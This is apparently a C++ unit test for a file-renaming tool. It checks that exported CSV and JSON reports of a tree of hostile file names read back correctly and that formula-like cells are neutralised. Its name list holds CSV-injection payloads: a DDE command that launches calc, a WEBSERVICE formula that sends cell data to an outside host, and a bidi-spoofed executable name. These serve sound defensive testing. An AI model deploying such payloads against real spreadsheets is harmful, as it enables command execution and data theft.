#include "model/MonitorViewModel.h"

#include "EventLoopWait.h"
#include "FakeFolderPicker.h"
#include "FakeReportSavePanel.h"
#include "LogCapture.h"
#include "PythonReport.h"
#include "TempDir.h"
#include "model/SettingsManager.h"
#include "rules/FilesystemPreset.h"
#include "rules/OSPreset.h"
#include "settings/DefaultsStore.h"

#include <gtest/gtest.h>

#include <QCoreApplication>
#include <QThreadPool>

#include <map>
#include <memory>
#include <string>
#include <vector>

namespace tess {
namespace {

using namespace std::chrono_literals;
using namespace std::string_literals;
using test::TempDir;
namespace python = test::python;

// Names that whoever can write into a tree may choose: formulas, quotes and
// commas, line breaks and other controls, a bidi override, names that are
// not UTF-8 (one beside its valid twin), and a folder with a formula name.
const std::vector<std::string> kHostileFiles = {
    R"(=HYPERLINK("https:example.invalid","invoice.pdf"))",
    R"(=WEBSERVICE("https:x"&ENCODEURL(B3)).txt)",
    "=cmd|' -C calc'!A0",
    "+1:2.txt",
    "-draft?.txt",
    "@SUM(A1)*.txt",
    "say \"hi\", then.txt",
    "tab\there.txt",
    "line\nbreak.txt",
    "\rreturn first.txt",
    "bell\x07.txt",
    "invoice\u202Etxt.exe",
    "twin/caf\u00E9.txt",
    "twin/caf\xe9.txt",
    "legacy/caf\xe9.txt",
    "=folder:x/inner:y.txt",
    "ok.txt",
};

// What a spreadsheet-bound CSV cell holds for `text`.
std::string csvCell(const std::string& text)
{
    const bool formula = !text.empty() && std::string_view("=+-@\t\r").find(text.front()) != std::string_view::npos;
    return formula ? "'" + text : text;
}

class ReportRoundTripTest : public ::testing::Test {
protected:
    static void SetUpTestSuite()
    {
        static int argc = 1;
        static char name[] = "test_renameflow";
        static char* argv[] = {name, nullptr};
        s_app = std::make_unique<QCoreApplication>(argc, argv);
    }

    static void TearDownTestSuite() { s_app.reset(); }

    void SetUp() override
    {
        m_settings = std::make_unique<SettingsManager>(std::make_shared<DefaultsStore>(m_dir / "defaults.plist"));
        m_settings->updateSettings([](AppSettings& settings) {
            settings.preferences.activeSettings = TransformationSettings::make(FilesystemPreset::ntfs, false, {OSPreset::windows});
        });
        MonitorViewModel::Dependencies dependencies;
        dependencies.settingsManager = m_settings.get();
        dependencies.dataFolder = m_data.path();
        dependencies.folderPicker = m_picker;
        dependencies.rename.savePanel = m_panel;
        m_model = std::make_unique<MonitorViewModel>(std::move(dependencies));
    }

    void TearDown() override
    {
        m_model.reset();
        for (int i = 0; i < 3; ++i) {
            QThreadPool::globalInstance()->waitForDone();
            test::settle(30ms);
        }
    }

    // Exports through the save panel, as the window does; true once written.
    bool exportTo(const std::string& path, AppSettings::ReportFormat format, bool renameReport)
    {
        m_panel->setNextAnswer(ReportSaveChoice {QString::fromStdString(path), format});
        const std::string logged = (renameReport ? "Rename report exported to " : "Report exported to ") + path;
        const int before = m_log.count("INFO", logged);
        renameReport ? m_model->exportRenameReport() : m_model->exportReport();
        return test::waitUntil([&] { return m_log.count("INFO", logged) == before + 1; });
    }

    static std::unique_ptr<QCoreApplication> s_app;
    TempDir m_dir;
    TempDir m_data;
    TempDir m_tree;
    std::unique_ptr<SettingsManager> m_settings;
    std::shared_ptr<test::FakeFolderPicker> m_picker = std::make_shared<test::FakeFolderPicker>();
    std::shared_ptr<test::FakeReportSavePanel> m_panel = std::make_shared<test::FakeReportSavePanel>();
    test::LogCapture m_log;
    std::unique_ptr<MonitorViewModel> m_model;
};

std::unique_ptr<QCoreApplication> ReportRoundTripTest::s_app;

// A scan report and a rename report of a hostile tree, exported as the
// window exports them and read back by Python's json and csv modules: every
// record names an item as it is on disk (Python's own reading of the
// names), and every CSV record is its JSON record with the apostrophe in
// front of a cell that would run as a formula.
TEST_F(ReportRoundTripTest, HostileNamesReadBackByPythonMatchTheDisk)
{
    if (!python::interpreter()) {
        GTEST_SKIP() << "python3 is not installed";
    }
    for (const std::string& name : kHostileFiles) {
        m_tree.writeFile(name, name);
    }
    const auto before = python::listTree(m_tree.path());
    ASSERT_TRUE(before);
    m_picker->answers.push_back(m_tree.path());
    m_model->selectSourceFolder();
    m_model->startMonitoring();
    ASSERT_TRUE(test::waitUntil([&] {
        return m_model->monitoringStatus().kind() == MonitoringStatus::Kind::monitoring && m_model->lastScanSummary().has_value()
            && !m_model->issueFiles().empty() && m_model->issueFiles().size() == static_cast<std::size_t>(m_model->issueCount());
    }));
    const std::size_t issues = m_model->issueFiles().size();

    // The scan report: each record is an item on disk, as Python names it.
    ASSERT_TRUE(exportTo(m_dir / "scan.json", AppSettings::ReportFormat::json, false));
    ASSERT_TRUE(exportTo(m_dir / "scan.csv", AppSettings::ReportFormat::csv, false));
    const auto scanJson = python::readJson(m_dir / "scan.json");
    const auto scanCsv = python::readCsv(m_dir / "scan.csv");
    ASSERT_TRUE(scanJson && scanCsv);
    ASSERT_EQ(scanJson->at("totalIssues"), "n" + std::to_string(issues));
    ASSERT_EQ(scanCsv->size(), issues + 1);
    std::map<std::string, std::string> proposals;
    for (std::size_t i = 0; i < issues; ++i) {
        const std::string key = "issues." + std::to_string(i) + ".";
        const std::string path = scanJson->at(key + "path").substr(1);
        SCOPED_TRACE(testing::PrintToString(path));
        ASSERT_TRUE(before->contains(path));
        EXPECT_EQ(scanJson->at(key + "isDirectory"), before->at(path) ? "btrue" : "bfalse");
        EXPECT_EQ(scanJson->at(key + "fullPath"), "s" + m_tree.path() + "/" + path);
        const std::string proposed = scanJson->contains(key + "proposedRename") ? scanJson->at(key + "proposedRename").substr(1) : "";
        proposals[path] = proposed;
        const std::vector<std::string>& record = (*scanCsv)[i + 1];
        ASSERT_EQ(record.size(), 9U);
        EXPECT_EQ(record[0], csvCell(path));
        EXPECT_EQ(record[1], csvCell(m_tree.path() + "/" + path));
        EXPECT_EQ(record[2], before->at(path) ? "true" : "false");
        EXPECT_EQ(record[6], csvCell(proposed));
    }
    // The twin and the re-encoding are told apart from the valid names.
    EXPECT_EQ(proposals.at("twin/caf\\xe9.txt"), "twin/caf\u00E9_1.txt");
    EXPECT_EQ(proposals.at("legacy/caf\\xe9.txt"), "legacy/caf\u00E9.txt");
    EXPECT_FALSE(proposals.contains("twin/caf\u00E9.txt"));

    // Rename everything proposed; the rename report's records are on disk.
    ItemIdSet all;
    for (const IndexedFile& item : m_model->issueFiles()) {
        if (item.needsRename) {
            all.insert(item.id);
        }
    }
    m_model->setSelectedFileIDs(all);
    m_model->renameSelected();
    ASSERT_TRUE(test::waitUntil([&] { return !m_model->isRenaming() && m_model->renameReport().has_value(); }));
    ASSERT_TRUE(exportTo(m_dir / "rename.json", AppSettings::ReportFormat::json, true));
    ASSERT_TRUE(exportTo(m_dir / "rename.csv", AppSettings::ReportFormat::csv, true));
    const auto after = python::listTree(m_tree.path());
    const auto renameJson = python::readJson(m_dir / "rename.json");
    const auto renameCsv = python::readCsv(m_dir / "rename.csv");
    ASSERT_TRUE(after && renameJson && renameCsv);
    EXPECT_EQ(renameJson->at("summary.failed"), "n0");
    EXPECT_EQ(renameJson->at("summary.failedVerification"), "n0");
    const std::size_t renamedCount = std::stoul(renameJson->at("summary.renamed").substr(1));
    const std::size_t removedCount = std::stoul(renameJson->at("summary.removedDirectories").substr(1));
    // A folder whose items moved into its new path is removed, not renamed.
    ASSERT_EQ(renamedCount + removedCount, all.size());
    ASSERT_EQ(renameCsv->size(), 2 + renamedCount + (removedCount > 0 ? 3 + removedCount : 0));
    std::map<std::string, std::string> renamed;
    for (std::size_t i = 0; i < renamedCount; ++i) {
        const std::string key = "renamed." + std::to_string(i) + ".";
        const std::string original = renameJson->at(key + "originalPath").substr(1);
        const std::string renamedTo = renameJson->at(key + "newPath").substr(1);
        SCOPED_TRACE(testing::PrintToString(original) + " -> " + testing::PrintToString(renamedTo));
        renamed[original] = renamedTo;
        EXPECT_TRUE(before->contains(original));
        EXPECT_FALSE(after->contains(original));
        EXPECT_TRUE(after->contains(renamedTo));
        EXPECT_EQ(proposals.at(original), renamedTo);
        EXPECT_EQ((*renameCsv)[2 + i], (std::vector<std::string> {csvCell(original), csvCell(renamedTo)}));
    }
    for (std::size_t i = 0; i < removedCount; ++i) {
        const std::string folder = renameJson->at("removedDirectories." + std::to_string(i)).substr(1);
        SCOPED_TRACE(testing::PrintToString(folder));
        EXPECT_TRUE(before->contains(folder) && before->at(folder));
        EXPECT_FALSE(after->contains(folder));
        EXPECT_TRUE(proposals.contains(folder));
        EXPECT_EQ((*renameCsv)[2 + renamedCount + 3 + i], (std::vector<std::string> {csvCell(folder)}));
    }
    EXPECT_EQ(renamed.at("twin/caf\\xe9.txt"), "twin/caf\u00E9_1.txt");
    EXPECT_EQ(renamed.at("legacy/caf\\xe9.txt"), "legacy/caf\u00E9.txt");
    EXPECT_TRUE(after->contains("twin/caf\u00E9.txt"));
}

}  // namespace
}  // namespace tess
